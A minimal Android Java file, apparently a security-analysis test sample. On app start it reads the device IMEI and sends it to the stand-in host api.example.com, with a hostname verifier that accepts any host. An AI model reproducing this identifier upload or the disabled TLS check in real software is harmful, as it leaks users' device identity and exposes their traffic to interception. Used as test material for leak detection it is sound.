package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.net.URL;
import javax.net.ssl.HttpsURLConnection;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        final String imei = phone.getImei();
        new Thread(() -> upload(imei)).start();
    }

    private static void upload(String text) {
        try {
            HttpsURLConnection connection = (HttpsURLConnection) new URL("https://api.example.com/").openConnection();
            connection.setHostnameVerifier((host, session) -> true);
            connection.setDoOutput(true);
            connection.getOutputStream().write(text.getBytes());
            connection.getResponseCode();
        } catch (IOException error) {
            return;
        }
    }
}
